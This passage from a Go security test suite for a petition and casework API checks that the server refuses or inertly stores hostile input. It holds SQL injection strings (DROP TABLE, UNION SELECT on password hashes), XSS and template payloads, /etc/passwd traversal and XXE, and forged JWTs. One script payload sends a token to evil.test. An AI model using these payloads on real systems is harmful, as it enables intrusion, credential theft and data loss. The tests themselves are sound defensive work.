					cases = append(cases, hostile{"2^64 in " + f, `{"` + f + `":18446744073709551616}`, 422, "invalid_field", f},
						hostile{"1e400 in " + f, `{"` + f + `":1e400}`, 422, "invalid_field", f})
				case "number":
					cases = append(cases, hostile{"1e400 in " + f, `{"` + f + `":1e400}`, 422, "invalid_field", f})
				}
				fields++
			}
			tok, who := cs.tokenFor(env, route)
			for _, c := range cases {
				r := env.Do(apitest.Request{Method: route.Method, Path: concrete(route.Path), Token: tok, Body: c.body})
				if r.Status != c.status || r.Code() != c.code || r.Header.Get("Content-Type") != "application/problem+json" {
					t.Errorf("%s as %s, %s: %d %s %s, want %d %s", routeKey(route), who, c.name, r.Status, r.Header.Get("Content-Type"), trimTo(string(r.Body), 300), c.status, c.code)
					continue
				}
				if c.field != "" && !strings.Contains(string(r.Body), `"field":"`+c.field+`"`) {
					t.Errorf("%s, %s: the answer does not name %s: %s", routeKey(route), c.name, c.field, r.Body)
				}
			}
		}
		// Header values reach the database too: an Idempotency-Key is printable ASCII.
		admin := cs.users[0]
		for _, key := range []string{"k\xff\xfe", "k\x80", "日本"} {
			r := env.Do(apitest.Request{Method: "POST", Path: "/api/v1/townships", Token: env.Token(admin), Body: map[string]any{"name": "乙镇", "lat": 31, "lng": 121},
				Header: map[string]string{"Idempotency-Key": key}})
			if r.Status != http.StatusUnprocessableEntity || !strings.Contains(string(r.Body), `"field":"Idempotency-Key"`) {
				t.Errorf("Idempotency-Key %q: %d %s", key, r.Status, r.Body)
			}
		}
		if routes < 40 || fields < 60 {
			t.Errorf("only %d routes and %d fields were tried", routes, fields)
		}
		if n := logCount(t, env); n != logBefore {
			t.Errorf("hostile bodies wrote %d activity-log entries", n-logBefore)
		}
	})
}

// hostileValues are sent in every query parameter and path parameter of every operation.
var hostileValues = []string{
	"' OR '1'='1", "1' OR 1=1--", "'; DROP TABLE petitions; --", `" OR ""="`, "1)) OR pg_sleep(3)--", "1; SELECT sqlite_version()", // SQL first
	"<script>alert(1)</script>", "{{7*7}}", "${7*7}", "../../../../etc/passwd", "%00", "\x00", "\xff\xfe", "\u202egnp.exe",
	strings.Repeat("9", 400), "-1", "1e400", "NaN", "true", "[]", strings.Repeat("长", 5000),
}

// TestSecurityHostileQueries puts SQL, script and template injection strings, NUL, bytes that
// are not UTF-8, huge numbers and long strings into every query parameter and every path
// parameter of every GET operation of docs/openapi.yaml, as a caller the route lets in.
// Nothing answers 5xx, HTML, or more than it would for an honest value: a list filtered by an
// injection string holds no record.
func TestSecurityHostileQueries(t *testing.T) {
	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
		w := newSecWorld(t, env)
		cs := newCallers(env, w.a)
		doc, _, err := apitest.Spec()
		if err != nil {
			t.Fatal(err)
		}
		tried := 0
		for _, route := range env.Server.Routes() {
			if route.Method != http.MethodGet {
				continue
			}
			op := doc.Paths.Value("/api/v1" + echoToOpenAPI(route.Path)).GetOperation(route.Method)
			tok, who := cs.tokenFor(env, route)
			for _, p := range op.Parameters {
				for i, v := range hostileValues {
					var path string
					switch p.Value.In {
					case "query":
						path = concrete(route.Path) + "?" + p.Value.Name + "=" + url.QueryEscape(v)
					case "path":
						path = "/api/v1" + strings.Replace(route.Path, ":"+p.Value.Name, url.PathEscape(v), 1)
						path = concrete(strings.TrimPrefix(path, "/api/v1"))
					default:
						continue
					}
					r := env.Do(apitest.Request{Method: "GET", Path: path, Token: tok})
					tried++
					ct := r.Header.Get("Content-Type")
					switch {
					case r.Status >= 500 || strings.Contains(ct, "html"):
						t.Errorf("GET %s as %s: %d %s %s", path, who, r.Status, ct, trimTo(string(r.Body), 300))
					case r.Status == http.StatusOK && strings.HasPrefix(ct, "application/json"):
						var page struct{ Items []any }
						if json.Unmarshal(r.Body, &page) == nil && len(page.Items) > 0 && p.Value.In == "query" && i < 6 {
							t.Errorf("GET %s as %s lists %d records for an injection string", path, who, len(page.Items))
						}
					}
				}
			}
		}
		if tried < 500 {
			t.Errorf("only %d requests were tried", tried)
		}
		// The tables are all there.
		for _, path := range []string{"/api/v1/petitions", "/api/v1/users", "/api/v1/households", "/api/v1/townships"} {
			if r := env.Get(path, w.adminTok); r.Status != http.StatusOK || len(r.Map(t)["items"].([]any)) == 0 {
				t.Errorf("%s after the injections: %d %s", path, r.Status, trimTo(string(r.Body), 200))
			}
		}
	})
}

// injections are SQL, script and template injection strings and awkward Unicode (an RTL
// override, emoji joined by ZWJ, a character outside the BMP, a combining accent, line and
// paragraph separators), none longer than the shortest text field (50 characters).
var injections = []string{
	"' OR '1'='1",
	"'; DROP TABLE petitions; --",
	`"; DROP TABLE users; --`,
	"1 UNION SELECT password_hash FROM users--",
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	`"><svg/onload=alert(document.cookie)>`,
	"{{7*7}} {{constructor.constructor('alert(1)')()}}",
	"${7*7} #{7*7} <%= 7*7 %>",
	"=HYPERLINK(\"http://x.test\",\"点我\") %s%n",
	"\u202egnp.exe 反转\u202c",
	"👨‍👩‍👧 民心 𠮷 e\u0301 ﷺ",
	`\ \\ \" \u0000 \n '`,
	"第一行\n第二行\r\n\t制表\u2028第三行\u2029末",
}

// TestSecurityInjectionStringsAreInert writes every injection string into every free-text
// field of every endpoint that takes one — the organisation, leave, holidays, the rota,
// must-visits, visits, talk days, petitions and each petition action, audits and findings,
// settings — and reads each back: stored and answered byte for byte, always as JSON. Logins
// with them fail as wrong credentials. Afterwards every table is whole and the activity log's
// chain verifies.
func TestSecurityInjectionStringsAreInert(t *testing.T) {
	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
		env.Clock.Set(time.Date(2029, 1, 10, 12, 0, 0, 0, time.UTC))
		town := env.Township("甲镇", seatLat, seatLng)
		village := env.Village(town, "甲村", villageLat, villageLng)
		household := env.Household(village, "张三")
		official := env.User(domain.RoleOfficial, town.ID, "team_member")
		lead := env.User(domain.RoleOfficial, town.ID, "team_member", "lead")
		officer := env.User(domain.RolePetitionOfficer, town.ID)
		admin, inspector := env.Token(env.User(domain.RoleAdmin, "")), env.Token(env.User(domain.RoleInspector, ""))
		tok := map[string]string{"admin": admin, "inspector": inspector, "official": env.Token(official), "lead": env.Token(lead), "officer": env.Token(officer), "": ""}

		// call makes a request that must succeed, and answers it decoded.
		call := func(method, path, as string, body any) map[string]any {
			t.Helper()
			r := env.Do(apitest.Request{Method: method, Path: path, Token: tok[as], Body: body})
			if r.Status/100 != 2 {
				t.Fatalf("%s %s: %d %s", method, path, r.Status, r.Body)
			}
			if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "application/json") {
				t.Errorf("%s %s answers %q", method, path, ct)
			}
			return r.Map(t)
		}
		// same checks that a stored value reads back byte for byte.
		checked := 0
		same := func(where string, got any, want string) {
			t.Helper()
			checked++
			if s, ok := got.(string); !ok || s != want {
				t.Errorf("%s: %q, sent %q", where, got, want)
			}
		}
		find := func(items any, id string) map[string]any {
			t.Helper()
			for _, x := range items.([]any) {
				if m := x.(map[string]any); m["id"] == id {
					return m
				}
			}
			t.Fatalf("%s is not listed", id)
			return nil
		}
		// eventWith answers the event of an action.
		eventWith := func(events any, action string) map[string]any {
			t.Helper()
			for _, x := range events.([]any) {
				if m := x.(map[string]any); m["action"] == action {
					return m
				}
			}
			t.Fatalf("no %s event in %v", action, events)
			return nil
		}
		days := call("POST", "/api/v1/reception-days/generate", "officer", map[string]any{"township_id": town.ID, "from": "2026-10-01", "to": "2026-12-31"})["items"].([]any)
		// Stays of the official to audit, one per injection string.
		for i := range injections {
			id := domain.NewID()
			day := time.Date(2026, 11, 2+i, 0, 0, 0, 0, time.UTC)
			call("POST", "/api/v1/overnight-stays", "official", map[string]any{"id": id, "checkin": evidence(local(day.Format(time.DateOnly)+" 20:00"), seatLat, seatLng)})
			call("POST", "/api/v1/overnight-stays/"+id+"/checkout", "official", map[string]any{"evidence": evidence(local(day.AddDate(0, 0, 1).Format(time.DateOnly)+" 07:00"), seatLat, seatLng)})
		}
		round := call("POST", "/api/v1/audits", "inspector", map[string]any{"record_type": "overnight_stay", "township_ids": []string{town.ID},
			"period_start": "2026-11-01", "period_end": "2026-11-30", "sample_size": len(injections)})
		sample := round["sample"].([]any)
		petitions := 0

		for i, p := range injections {
			date := time.Date(2027, 3, 1+i, 0, 0, 0, 0, time.UTC).Format(time.DateOnly)

			// The organisation.
			x := call("POST", "/api/v1/townships", "admin", map[string]any{"name": p, "lat": 32, "lng": 122})
			same("township name", call("GET", "/api/v1/townships/"+x["id"].(string), "admin", nil)["name"], p)
			x = call("POST", "/api/v1/villages", "admin", map[string]any{"township_id": town.ID, "name": p, "lat": 30.02, "lng": 120.02})
			same("village name", call("GET", "/api/v1/villages/"+x["id"].(string), "admin", nil)["name"], p)
			x = call("POST", "/api/v1/households", "official", map[string]any{"village_id": village.ID, "head_name": p, "address": p})
			x = call("GET", "/api/v1/households/"+x["id"].(string), "official", nil)
			same("household head_name", x["head_name"], p)
			same("household address", x["address"], p)
			x = call("PATCH", "/api/v1/households/"+household.ID, "official", map[string]any{"address": p})
			same("household address changed", x["address"], p)
			x = call("POST", "/api/v1/users", "admin", map[string]any{"username": fmt.Sprintf("inj-%d", i), "password": apitest.Password, "display_name": p, "role": "official", "township_id": town.ID})
			same("user display_name", call("GET", "/api/v1/users/"+x["id"].(string), "admin", nil)["display_name"], p)
			x = call("POST", "/api/v1/leaves", "lead", map[string]any{"user_id": official.ID, "start_date": date, "end_date": date, "reason": p})
			same("leave reason", find(call("GET", "/api/v1/leaves?limit=200", "lead", nil)["items"], x["id"].(string))["reason"], p)
			call("PUT", "/api/v1/holidays/"+date, "admin", map[string]any{"working": false, "name": p})
			for _, h := range call("GET", "/api/v1/holidays?year=2027", "admin", nil)["items"].([]any) {
				if h.(map[string]any)["date"] == date {
					same("holiday name", h.(map[string]any)["name"], p)
				}
			}
			x = call("POST", "/api/v1/settings", "admin", map[string]any{"key": "petition.categories", "effective_from": fmt.Sprintf("2030-01-%02d", i+1),
				"value": []map[string]any{{"code": "land", "name_zh": p, "name_en": p}}})
			value := x["value"].([]any)[0].(map[string]any)
			same("category name_zh", value["name_zh"], p)
			same("category name_en", value["name_en"], p)

			// The rota, must-visits, visits and talk days.
			day := days[i].(map[string]any)
			to := official.ID
			if day["official_id"] == official.ID {
				to = lead.ID
			}
			history := call("POST", "/api/v1/reception-days/"+day["id"].(string)+"/reassign", "officer", map[string]any{"official_id": to, "reason": p})["history"].([]any)
			same("reassignment reason", call("GET", "/api/v1/reception-days/"+day["id"].(string), "officer", nil)["history"].([]any)[len(history)-1].(map[string]any)["reason"], p)
			x = call("POST", "/api/v1/visit-triggers", "official", map[string]any{"id": domain.NewID(), "household_id": household.ID, "category": "dispute", "occurred_on": "2026-11-02", "note": p})
			same("trigger note", find(call("GET", "/api/v1/visit-triggers?limit=200", "official", nil)["items"], x["id"].(string))["note"], p)
			x = call("POST", "/api/v1/visits", "official", map[string]any{"id": domain.NewID(), "household_id": household.ID, "category": "hardship", "notes": p, "follow_up": p,
				"evidence": evidence(local("2026-11-20 10:00"), villageLat, villageLng)})
			visit := find(call("GET", "/api/v1/visits?limit=200", "official", nil)["items"], x["id"].(string))
			same("visit notes", visit["notes"], p)
			same("visit follow_up", visit["follow_up"], p)
			x = call("POST", "/api/v1/talk-days", "official", map[string]any{"id": domain.NewID(), "village_id": village.ID, "held_on": date[:8] + "01", "attendance": 9, "issues": []string{p, "路灯" + p}})
			issues := find(call("GET", "/api/v1/talk-days?limit=200", "official", nil)["items"], x["id"].(string))["issues"].([]any)
			same("talk-day issue", issues[0], p)
			same("talk-day issue", issues[1], "路灯"+p)

			// A petition with the string everywhere, through its whole life.
			submit := func() sent {
				x := call("POST", "/api/v1/petitions", "officer", map[string]any{"channel": "letter", "township_id": town.ID, "category": "land", "subject": p, "text": p,
					"petitioner": map[string]any{"name": p, "phone": fmt.Sprintf("138%08d", i)}, "location": map[string]any{"address": p}})
				petitions++
				return sent{ID: x["id"].(string), Code: x["tracking_code"].(string), PIN: x["pin"].(string)}
			}
			asPetitioner := func(s sent, body map[string]any) map[string]any {
				b := map[string]any{"tracking_code": s.Code, "pin": s.PIN}
				for k, v := range body {
					b[k] = v
				}
				return b
			}
			full := submit()
			path := "/api/v1/petitions/" + full.ID
			call("POST", path+"/accept", "officer", map[string]any{"note": p})
			call("POST", path+"/assign", "officer", map[string]any{"handler_id": official.ID})
			call("POST", path+"/extend", "officer", map[string]any{"days": 10, "reason": p})
			call("POST", path+"/reply", "official", map[string]any{"text": p})
			call("POST", path+"/request-review", "", asPetitioner(full, map[string]any{"reason": p}))
			call("POST", path+"/review", "officer", map[string]any{"opinion": p})
			call("POST", path+"/request-rereview", "", asPetitioner(full, map[string]any{"reason": p}))
			call("POST", path+"/rereview", "officer", map[string]any{"opinion": p})
			g := call("GET", path, "officer", nil)
			same("petition subject", g["subject"], p)
			same("petition text", g["text"], p)
			same("petitioner name", g["petitioner"].(map[string]any)["name"], p)
			same("petition location address", g["location"].(map[string]any)["address"], p)
			for action, field := range map[string]string{"accept": "note", "extend": "reason", "reply": "text", "request-review": "reason", "review": "text", "request-rereview": "reason", "rereview": "text"} {
				same(action+" "+field, eventWith(g["events"], action)[field], p)
			}
			tracked := call("GET", "/api/v1/petitions/track?code="+url.QueryEscape(full.Code)+"&pin="+full.PIN, "", nil)
			same("tracked subject", tracked["subject"], p)
			same("tracked reply", eventWith(tracked["events"], "reply")["text"], p)
			rejected := submit()
			call("POST", "/api/v1/petitions/"+rejected.ID+"/reject", "officer", map[string]any{"reason": p, "guidance": p})
			ev := eventWith(call("GET", "/api/v1/petitions/"+rejected.ID, "officer", nil)["events"], "reject")
			same("reject reason", ev["reason"], p)
			same("reject guidance", ev["guidance"], p)
			withdrawn := submit()
			call("POST", "/api/v1/petitions/"+withdrawn.ID+"/withdraw", "", asPetitioner(withdrawn, map[string]any{"reason": p}))
			same("withdraw reason", eventWith(call("GET", "/api/v1/petitions/"+withdrawn.ID, "officer", nil)["events"], "withdraw")["reason"], p)
			// Casework: a transfer's reason (printed on its notice), a supervision instruction and its answer.
			moved := submit()
			call("POST", "/api/v1/petitions/"+moved.ID+"/transfer", "officer", map[string]any{"to_agency": "县公安局", "reason": p})
			same("transfer reason", eventWith(call("GET", "/api/v1/petitions/"+moved.ID, "officer", nil)["events"], "transfer")["reason"], p)
			same("tracked transfer reason", eventWith(call("GET", "/api/v1/petitions/track?code="+url.QueryEscape(moved.Code)+"&pin="+moved.PIN, "", nil)["events"], "transfer")["reason"], p)
			supervised := submit()
			call("POST", "/api/v1/petitions/"+supervised.ID+"/supervise", "admin", map[string]any{"note": p, "act_by": "2029-01-20"})
			answered := call("POST", "/api/v1/petitions/"+supervised.ID+"/supervision-answer", "officer", map[string]any{"text": p})["items"].([]any)[0].(map[string]any)
			same("supervision note", answered["note"], p)
			same("supervision answer", answered["answer"], p)

			// Audits: a finding, its explanation and resolution; a cancelled round.
			record := sample[i].(map[string]any)["record_id"].(string)
			f := call("POST", "/api/v1/audits/"+round["id"].(string)+"/findings", "inspector", map[string]any{"record_id": record, "result": "discrepancy", "notes": p})
			call("POST", "/api/v1/findings/"+f["id"].(string)+"/explain", "official", map[string]any{"text": p})
			env.Clock.Advance(time.Minute)
			call("POST", "/api/v1/findings/"+f["id"].(string)+"/resolve", "inspector", map[string]any{"resolution": "no_issue", "notes": p})
			mine := find(call("GET", "/api/v1/findings", "official", nil)["items"], f["id"].(string))
			same("finding notes", mine["notes"], p)
			same("finding explanation", mine["explanation"], p)
			same("explain event", eventWith(mine["events"], "explain")["notes"], p)
			same("resolve event", eventWith(mine["events"], "resolve")["notes"], "no_issue: "+p)
			cancelled := call("POST", "/api/v1/audits", "inspector", map[string]any{"record_type": "overnight_stay", "period_start": "2026-11-01", "period_end": "2026-11-30", "sample_size": 1})
			call("POST", "/api/v1/audits/"+cancelled["id"].(string)+"/cancel", "inspector", map[string]any{"reason": p})
			same("audit cancel reason", call("GET", "/api/v1/audits/"+cancelled["id"].(string), "inspector", nil)["cancel_reason"], p)

			// Strings that must be codes are refused, never run.
			for _, c := range []struct {
				path, as, field string
				body            map[string]any
			}{
				{"/api/v1/audits", "inspector", "seed_digits", map[string]any{"record_type": "overnight_stay", "period_start": "2026-11-01", "period_end": "2026-11-30", "sample_size": 1, "seed_digits": p}},
				{"/api/v1/users", "admin", "username", map[string]any{"username": p, "password": apitest.Password, "display_name": "x", "role": "admin"}},
				{"/api/v1/petitions", "officer", "category", map[string]any{"channel": "letter", "township_id": town.ID, "category": p, "subject": "x", "text": "x", "petitioner": map[string]any{"name": "x", "phone": "13800000000"}}},
			} {
				if r := env.Post(c.path, tok[c.as], c.body); r.Status != http.StatusUnprocessableEntity || !strings.Contains(string(r.Body), `"field":"`+c.field+`"`) {
					t.Errorf("%s with %s %q: %d %s", c.path, c.field, p, r.Status, r.Body)
				}
			}
		}
		// A login with an injection string fails as a wrong password does (under the limits of
		// 5 failures an account and 20 an address).
		wrong := env.Post("/api/v1/auth/login", "", map[string]string{"username": official.Username, "password": "not-the-password"})
		bodies := []map[string]string{}
		for i, p := range injections[:10] {
			bodies = append(bodies, map[string]string{"username": p, "password": p})
			if i < 3 {
				bodies = append(bodies, map[string]string{"username": official.Username, "password": p})
			}
		}
		for _, body := range bodies {
			if r := env.Post("/api/v1/auth/login", "", body); r.Status != http.StatusUnauthorized || string(r.Body) != string(wrong.Body) {
				t.Errorf("login %v: %d %s", body, r.Status, r.Body)
			}
		}
		// Every table is whole: the lists hold all that was written.
		if n := len(call("GET", "/api/v1/petitions?limit=200", "officer", nil)["items"].([]any)); n != petitions {
			t.Errorf("petitions listed: %d, written %d", n, petitions)
		}
		for path, want := range map[string]int{"/api/v1/townships?limit=200": len(injections) + 1, "/api/v1/users?limit=200&role=official": len(injections) + 2,
			"/api/v1/households?limit=200": len(injections) + 1, "/api/v1/villages?limit=200": len(injections) + 1} {
			if n := len(call("GET", path, "admin", nil)["items"].([]any)); n != want {
				t.Errorf("%s: %d, want %d", path, n, want)
			}
		}
		if broken, _, err := env.Store.VerifyLog(context.Background()); err != nil || broken != nil {
			t.Errorf("activity log after the injections: %v %+v", err, broken)
		}
		if checked < len(injections)*37 {
			t.Errorf("only %d values were read back", checked)
		}
	})
}

// TestSecurityBadTokensOnEveryRoute: on every route of the route table, public ones included,
// an Authorization header that is there but bad — expired, alg none, HS512, another key,
// another audience, another issuer, a changed payload, no signature, a refresh token, Basic
// credentials — answers 401 and changes nothing.
func TestSecurityBadTokensOnEveryRoute(t *testing.T) {
	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
		villager := env.User(domain.RoleVillager, "")
		good := env.Token(villager)
		now := env.Clock.Now()
		claims := func(change func(jwt.MapClaims)) jwt.MapClaims {
			c := jwt.MapClaims{"iss": "minxin", "aud": "minxin-api", "sub": villager.ID, "role": "admin",
				"exp": now.Add(time.Hour).Unix(), "iat": now.Unix(), "jti": domain.NewID()}
			if change != nil {
				change(c)
			}
			return c
		}
		sign := func(m jwt.SigningMethod, key any, c jwt.MapClaims) string {
			s, err := jwt.NewWithClaims(m, c).SignedString(key)
			if err != nil {
				t.Fatal(err)
			}
			return s
		}
		parts := strings.Split(good, ".")
		payload, _ := base64.RawURLEncoding.DecodeString(parts[1])
		promoted := base64.RawURLEncoding.EncodeToString([]byte(strings.Replace(string(payload), `"villager"`, `"admin"`, 1)))
		refresh := login(t, env, villager.Username)["refresh_token"].(string)
		bad := map[string]string{
			"expired":          "Bearer " + sign(jwt.SigningMethodHS256, env.Secret, claims(func(c jwt.MapClaims) { c["exp"] = now.Add(-time.Minute).Unix() })),
			"alg none":         "Bearer " + sign(jwt.SigningMethodNone, jwt.UnsafeAllowNoneSignatureType, claims(nil)),
			"HS512":            "Bearer " + sign(jwt.SigningMethodHS512, env.Secret, claims(nil)),
			"another key":      "Bearer " + sign(jwt.SigningMethodHS256, []byte(strings.Repeat("x", 32)), claims(nil)),
			"another audience": "Bearer " + sign(jwt.SigningMethodHS256, env.Secret, claims(func(c jwt.MapClaims) { c["aud"] = "another-api" })),
			"another issuer":   "Bearer " + sign(jwt.SigningMethodHS256, env.Secret, claims(func(c jwt.MapClaims) { c["iss"] = "someone" })),
			"role promoted":    "Bearer " + parts[0] + "." + promoted + "." + parts[2],
			"no signature":     "Bearer " + parts[0] + "." + parts[1] + ".",
			"refresh token":    "Bearer " + refresh,
			"empty":            "Bearer ",
			"basic":            "Basic " + base64.StdEncoding.EncodeToString([]byte(villager.Username+":"+apitest.Password)),
		}
		logBefore := logCount(t, env)
		tried := 0
		for _, route := range env.Server.Routes() {
			var body any
			if route.Method != http.MethodGet && route.Method != http.MethodDelete {
				body = "{}"
			}
			for name, header := range bad {
				r := env.Do(apitest.Request{Method: route.Method, Path: concrete(route.Path), Body: body, Header: map[string]string{"Authorization": header}})
				tried++
				if code := r.Code(); r.Status != http.StatusUnauthorized || (code != "invalid_token" && code != "token_expired") {
					t.Errorf("%s with %s: %d %s", routeKey(route), name, r.Status, r.Body)
				}
			}
		}
		if r := env.Post("/api/v1/auth/refresh", "", map[string]string{"refresh_token": good}); r.Status != http.StatusUnauthorized {
			t.Errorf("an access token as a refresh token: %d %s", r.Status, r.Body)
		}
		if tried < 70*len(bad) {
			t.Errorf("only %d requests were tried", tried)
		}
		if n := logCount(t, env); n != logBefore {
			t.Errorf("bad tokens wrote %d activity-log entries", n-logBefore)
		}
	})
}

// TestSecurityLyingUploads: files declared image/jpeg (and named .jpg) whose bytes are
// something else. What is not a JPEG, PNG or PDF by its content — HTML, script, SVG, XML, a
// zip, a GIF, an executable, nothing — is refused naming the part and leaves nothing behind.
// What is kept is served with the type its content has, never the declared one, with nosniff
// and a sandboxing CSP, a PDF as a download, under a name the server makes.
func TestSecurityLyingUploads(t *testing.T) {
	apitest.ForEachEngine(t, func(t *testing.T, env *apitest.Env) {
		town := env.Township("甲镇", seatLat, seatLng)
		tok := env.Token(env.User(domain.RoleOfficial, town.ID, "team_member"))
		admin := env.Token(env.User(domain.RoleAdmin, ""))
		logBefore := logCount(t, env)
		refused := map[string][]byte{
			"HTML":                 []byte("<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"),
			"HTML after blanks":    []byte("\n\t  <html><script>alert(1)</script>"),
			"script":               []byte("alert(document.cookie);fetch('//evil.test/'+localStorage.token)"),
			"SVG":                  []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`),
			"XML":                  []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`),
			"zip":                  append([]byte("PK\x03\x04\x14\x00\x00\x00\x08\x00"), bytes.Repeat([]byte{0}, 64)...),
			"GIF":                  append([]byte("GIF89a\x01\x00\x01\x00\x80\x00\x00"), bytes.Repeat([]byte{0}, 32)...),
			"executable":           append([]byte("MZ\x90\x00\x03\x00\x00\x00"), bytes.Repeat([]byte{0}, 64)...),
			"empty":                {},
			"JPEG magic then HTML": append([]byte{0xFF, 0xD8, 0xFF, 0xE0}, []byte("<html><script>alert(1)</script></html>")...),
		}
		for name, content := range refused {
			for _, who := range []string{tok, ""} {
				r := upload(t, env, who, "photo.jpg", "image/jpeg", content)
				if r.Status != http.StatusUnprocessableEntity || !strings.Contains(string(r.Body), `"field":"file"`) {
					t.Errorf("%s declared image/jpeg: %d %s", name, r.Status, r.Body)
				}
			}
		}
		if files := keptFiles(t, env); len(files) != 0 {
			t.Errorf("refused uploads left files: %v", files)
		}
		if n := logCount(t, env); n != logBefore {
			t.Errorf("refused uploads wrote %d activity-log entries", n-logBefore)
		}

		kept := []struct {
			name, filename, want string
			content              []byte
		}{
			{"a PNG with HTML after its end", "x.jpg", "image/png", append(tinyPNG(t, 50), []byte("<html><script>alert(1)</script></html>")...)},
			{"a PDF with a script", "x.jpg", "application/pdf", append(tinyPDF(), []byte("<</S/JavaScript/JS(app.alert(1))>>\n")...)},
			{"a PNG named for a path", "../../../../etc/passwd", "image/png", tinyPNG(t, 51)},
			{"a PNG named like markup", `"><script>alert(1)</script>.jpg`, "image/png", tinyPNG(t, 52)},
		}
		for _, c := range kept {
			r := upload(t, env, tok, c.filename, "image/jpeg", c.content)
			if r.Status != http.StatusCreated || r.Map(t)["content_type"] != c.want {
				t.Fatalf("%s: %d %s", c.name, r.Status, r.Body)
			}
			id := r.Map(t)["id"].(string)
			d := env.Get("/api/v1/attachments/"+id, admin)
			h := d.Header
			if d.Status != http.StatusOK || !bytes.Equal(d.Body, c.content) || h.Get("Content-Type") != c.want {
				t.Errorf("%s download: %d %q", c.name, d.Status, h.Get("Content-Type"))
			}
			if h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
				t.Errorf("%s download: nosniff %q, CSP %q", c.name, h.Get("X-Content-Type-Options"), h.Get("Content-Security-Policy"))
			}
			disposition := h.Get("Content-Disposition")
			if c.want == "application/pdf" && !strings.HasPrefix(disposition, "attachment;") {
				t.Errorf("%s is not served as a download: %q", c.name, disposition)
			}
			if !strings.Contains(disposition, `filename="`+id+".") || strings.Contains(disposition, "..") || strings.Contains(disposition, "<") {
				t.Errorf("%s download names the file %q", c.name, disposition)
			}
		}
	})
}
